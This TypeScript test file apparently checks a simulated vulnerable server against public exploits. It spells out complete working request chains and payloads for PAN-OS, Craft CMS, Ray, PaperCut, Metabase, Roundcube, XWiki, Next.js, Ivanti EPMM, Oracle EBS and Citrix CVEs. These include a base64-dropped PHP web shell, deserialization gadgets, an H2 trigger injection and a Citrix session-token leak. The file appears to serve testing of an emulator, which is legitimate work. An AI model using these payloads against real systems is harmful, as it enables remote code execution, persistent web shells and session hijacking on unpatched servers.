/** The steps of public exploits that leave a command which runs later, and of those whose answer brings it home at once. */

import { describe, expect, it } from 'vitest';
import { cookieOf, stranger, webMachine } from '../../../../test/support/http-visitor.ts';

const id = /uid=\d+\(/;
const machine = webMachine('ubuntu-web', [
  'pan-os',
  'craft-cms',
  'ray',
  'metabase',
  'papercut',
  'oracle-ebs',
  'xwiki',
  'nextjs',
  'ivanti-epmm',
  'citrix-adc',
]);

describe('a command in waiting', () => {
  it('is run by PAN-OS when the session that holds it is used (CVE-2024-0012, CVE-2024-9474)', () => {
    const visitor = stranger(machine);
    const off = { 'X-PAN-AUTHCHECK': 'off' };
    const version = visitor.get('/php/utils/CmsGetDeviceSoftwareVersion.php/.js.map', off);
    expect(version.cves).toContain('CVE-2024-0012');
    expect([version.body, /^Expires: 0$/m.test(version.headers)]).toEqual(['"0.0.0"', true]);
    const create = visitor.form(
      '/php/utils/createRemoteAppwebSession.php/a.js.map',
      'user=`id+>/tmp/pan.txt`&userRole=superuser&remoteHost=&vsys=vsys1',
      off,
    );
    expect(create.cves).toContain('CVE-2024-9474');
    const session = /@start@PHPSESSID=(\w+)@end@/.exec(create.body)?.[1] ?? '';
    const used = visitor.get('/index.php/.js.map', { ...off, Cookie: `PHPSESSID=${session}` });
    expect(used.body).toContain('panos');
    expect(used.facts).toContainEqual(
      expect.objectContaining({ kind: 'command', input: 'id >/tmp/pan.txt' }),
    );
    const page = Buffer.from('<?php system($_POST["c"]); ?>').toString('base64');
    visitor.form(
      '/php/utils/createRemoteAppwebSession.php/a.js.map',
      `user=${encodeURIComponent(`\`echo ${page}|base64 -d > /var/appweb/htdocs/unauth/p.php\``)}&userRole=superuser`,
      off,
    );
    const last = visitor.form(
      '/php/utils/createRemoteAppwebSession.php/a.js.map',
      'user=x&userRole=superuser',
      off,
    );
    const again = /@start@PHPSESSID=(\w+)@end@/.exec(last.body)?.[1] ?? '';
    visitor.get('/index.php/.js.map', { ...off, Cookie: `PHPSESSID=${again}` });
    expect(visitor.form('/unauth/p.php', 'c=id').body).toMatch(id);
  });

  it('leaves a file that PAN-OS forbids, where it would find none (CVE-2024-3400)', () => {
    const visitor = stranger(machine);
    const place = '/global-protect/portal/images/p4711.txt';
    expect(visitor.get(place).status).toBe(404);
    const sent = visitor.form('/ssl-vpn/hipreport.esp', 'user=a', {
      Cookie: `SESSID=/../../../var/appweb/sslvpndocs${place};`,
    });
    expect(sent.cves).toContain('CVE-2024-3400');
    expect(visitor.get(place).status).toBe(403);
    expect(stranger(machine).get(place).status).toBe(404);
  });

  it('stays in the session of Craft CMS until it is included (CVE-2025-32432)', () => {
    const visitor = stranger(machine);
    const poisoned = visitor.get('/index.php?p=admin/dashboard&a=<?=system(%27id%27)?>');
    expect(poisoned.status).toBe(302);
    const session = cookieOf(poisoned, 'CraftSessionId');
    const token =
      /"csrfTokenValue":"([^"]+)"/.exec(
        visitor.get('/index.php?p=admin/actions/assets/generate-transform').body,
      )?.[1] ?? '';
    expect(token).toMatch(/^[\w-]{60,}$/);
    const value = {
      assetId: 11,
      handle: {
        width: 1,
        height: 1,
        'as hack': {
          class: 'craft\\behaviors\\FieldLayoutBehavior',
          __class: 'yii\\rbac\\PhpManager',
          '__construct()': [{ itemFile: `/var/lib/php/sessions/sess_${session}` }],
        },
      },
    };
    const strike = visitor.json('/index.php?p=admin/actions/assets/generate-transform', value, {
      'X-CSRF-Token': token,
    });
    expect(strike.cves).toContain('CVE-2025-32432');
    expect(strike.body).toMatch(id);
    expect(
      stranger(machine).json('/index.php?p=admin/actions/assets/generate-transform', value).body,
    ).not.toMatch(id);
    const information = visitor.json('/index.php?p=admin/actions/assets/generate-transform', {
      assetId: 1,
      handle: { 'as session': { __class: 'GuzzleHttp\\Psr7\\FnStream', _fn_close: 'phpinfo' } },
    });
    for (const mark of ['PHP Extension', 'PHP Version', 'CRAFT_']) expect(information.body).toContain(mark);
  });

  it('is a job of Ray, whose log shows what it printed (CVE-2023-48022)', () => {
    const visitor = stranger(machine);
    const sent = visitor.json('/api/jobs/', { entrypoint: 'id', submission_id: 'Job_Ab12Cd' });
    expect(sent.cves).toContain('CVE-2023-48022');
    expect(visitor.get('/api/jobs/Job_Ab12Cd').body).toContain('"status":"SUCCEEDED"');
    expect(visitor.get('/api/jobs/Job_Ab12Cd/logs').body).toMatch(/"logs":"uid=\d+\(/);
    expect(visitor.get('/api/jobs/').body).toContain('Job_Ab12Cd');
    expect(stranger(machine).get('/api/jobs/Job_Ab12Cd/logs').status).toBe(404);
    const unnamed = visitor.json('/api/jobs/', { entrypoint: 'echo 4711' }).body;
    const name = /"submission_id":"(raysubmit_\w{16})"/.exec(unnamed)?.[1] ?? '';
    expect(visitor.get(`/api/jobs/${name}/logs`).body).toContain('4711');
  });

  it('is a script of PaperCut’s printer, for who allowed scripts (CVE-2023-27350)', () => {
    const visitor = stranger(machine);
    expect(visitor.get('/app?service=page/SetupCompleted').cves).toContain('CVE-2023-27350');
    const login = visitor.form('/app', 'service=direct%2F1%2FSetupCompleted%2F%24Form&sp=S0&%24Submit=Login');
    const session = { Cookie: `JSESSIONID=${cookieOf(login, 'JSESSIONID')}` };
    const script =
      'service=direct%2F1%2FPrinterDetails%2F%24PrinterDetailsScript.%24Form&sp=S0&enablePrintScript=on&scriptBody=java.lang.Runtime.getRuntime%28%29.exec%28%27touch+%2Ftmp%2Fprinted%27%29%3B';
    expect(visitor.form('/app', script, session).body).toContain('Scripting is disabled');
    for (const [name, value] of [
      ['print-and-device.script.enabled', 'Y'],
      ['print.script.sandboxed', 'N'],
    ] as const) {
      visitor.form(
        '/app',
        `service=direct%2F1%2FConfigEditor%2FquickFindForm&sp=S0&%24TextField=${name}&doQuickFind=Go`,
        session,
      );
      visitor.form(
        '/app',
        `service=direct%2F1%2FConfigEditor%2F%24Form&sp=S1&%24TextField%240=${value}&%24Submit=Update`,
        session,
      );
    }
    expect(visitor.get('/app?service=page/PrinterList', session).body).toMatch(
      /erList\/selectPrinterCost&amp;sp=[a-z0-9]+">/,
    );
    expect(visitor.form('/app', script, session).facts).toContainEqual(
      expect.objectContaining({ kind: 'command', input: 'touch /tmp/printed' }),
    );
  });

  it('is run by Metabase for who read the token of its setup (CVE-2023-38646)', () => {
    const visitor = stranger(machine);
    const token = /"setup-token":"([^"]+)"/.exec(visitor.get('/api/session/properties').body)?.[1] ?? '';
    const strike = (given: string) =>
      visitor.json('/api/setup/validate', {
        token: given,
        details: {
          engine: 'h2',
          name: 'x',
          details: {
            db: "zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER a BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('touch /tmp/meta')\n$$--=x",
          },
        },
      });
    expect(strike('00000000-0000-0000-0000-000000000000').body).toContain('Token does not match');
    const struck = strike(token);
    expect(struck.cves).toContain('CVE-2023-38646');
    expect(struck.status).toBe(400);
    expect(struck.facts).toContainEqual(
      expect.objectContaining({ kind: 'command', input: 'touch /tmp/meta' }),
    );
  });
});

describe('Roundcube', () => {
  it('runs what a picture’s origin unserialises, for who is logged in (CVE-2025-49113)', () => {
    const visitor = stranger(webMachine('ubuntu-web', ['roundcube']));
    const front = visitor.get('/').body;
    expect(front).toContain('"rcversion":10610');
    const token = /"request_token":"(\w+)"/.exec(front)?.[1] ?? '';
    const login = () =>
      visitor.form(
        '/?_task=login',
        `_token=${token}&_task=login&_action=login&_timezone=UTC&_url=&_user=mallory&_pass=pa55`,
      );
    const target = `/?_task=settings&_framed=1&_remote=1&_from=!";O:16:"Crypt_GPG_Engine":1:{s:8:"_gpgconf";s:22:"touch+/tmp/roundcube;#";}}&_action=upload`;
    const strike = (cookie: string) =>
      visitor.upload(target.replaceAll('"', '%22'), [['_file[]', 'x|a:1:{s:57:"a";}', '\x89PNG']], {
        Cookie: cookie,
      });
    const outside = strike('roundcube_sessid=none');
    expect(outside.cves).toContain('CVE-2025-49113');
    expect(outside.facts.some((fact) => fact.kind === 'command')).toBe(false);
    const tries = [login(), login(), login()];
    expect(tries.map(({ status }) => status)).toEqual([401, 401, 302]);
    const inside = strike(`roundcube_sessid=${cookieOf(tries[2] ?? login(), 'roundcube_sessid')}`);
    expect(inside.facts).toContainEqual(
      expect.objectContaining({ kind: 'command', input: expect.stringContaining('touch /tmp/roundcube') }),
    );
  });
});

describe('exploits of one step', () => {
  it('bring the output home as each of them expects it', () => {
    const visitor = stranger(machine);
    const search = encodeURIComponent(
      '}}}{{async async=false}}{{groovy}}println("id".execute().text){{/groovy}}{{/async}}',
    );
    const feed = visitor.get(`/xwiki/bin/get/Main/SolrSearch?media=rss&text=${search}`);
    expect([feed.cves[0], id.test(feed.body)]).toEqual(['CVE-2025-24893', true]);
    const part = `{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"var res=process.mainModule.require('child_process').execSync('echo $((41000*43000))').toString().trim();;throw Object.assign(new Error('NEXT_REDIRECT'),{digest: \`NEXT_REDIRECT;push;/login?a=\${res};307;\`});","_chunks":"$Q2","_formData":{"get":"$1:constructor:constructor"}}}`;
    const flight = visitor.upload(
      '/',
      [
        ['0', null, part],
        ['1', null, '"$@0"'],
      ],
      { 'Next-Action': 'x' },
    );
    expect(flight.cves).toContain('CVE-2025-55182');
    expect(flight.headers).toContain('x-action-redirect: /login?a=1763000000;push');
    const format = encodeURIComponent(
      "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(''.getClass().forName('java.lang.Runtime')).exec('id')}",
    );
    const mobile = visitor.get(`/mifs/rs/api/v2/featureusage?adminDeviceSpaceId=131&format=${format}`);
    expect(mobile.cves).toContain('CVE-2025-4427');
    expect([mobile.status, /localizedMessage.*Format 'Process\[pid=/.test(mobile.body)]).toEqual([400, true]);
    const token = visitor.send(
      'POST',
      '/OA_HTML/JavaScriptServlet',
      { 'CSRF-XHR': 'YES', 'FETCH-CSRF-TOKEN': '1' },
      'x',
    );
    expect(token.body).toMatch(/^OA_CSRF_TOKEN:\w+$/);
    expect(visitor.get('/OA_HTML/help/../ieshostedsurvey.jsp').body).toContain(
      '$Header: ieshostedsurvey.jsp',
    );
  });

  it('give a session away on Citrix, by which who read it is known (CVE-2023-4966, CVE-2025-5777)', () => {
    const visitor = stranger(machine);
    const bled = visitor.get('/oauth/idp/.well-known/openid-configuration', { Host: 'a'.repeat(24_812) });
    expect(bled.cves).toContain('CVE-2023-4966');
    const session = /NSC_AAAC=([0-9a-f]{64})/.exec(bled.body)?.[1] ?? 'none';
    const name = (cookie: string) =>
      visitor.send('POST', '/logon/LogonPoint/Authentication/GetUserName', { Cookie: cookie }, 'x');
    expect(name('NSC_AAAC=0').status).not.toBe(200);
    expect(name(`NSC_AAAC=${session}`).body).toMatch(/^[a-z.]+$/);
  });
});
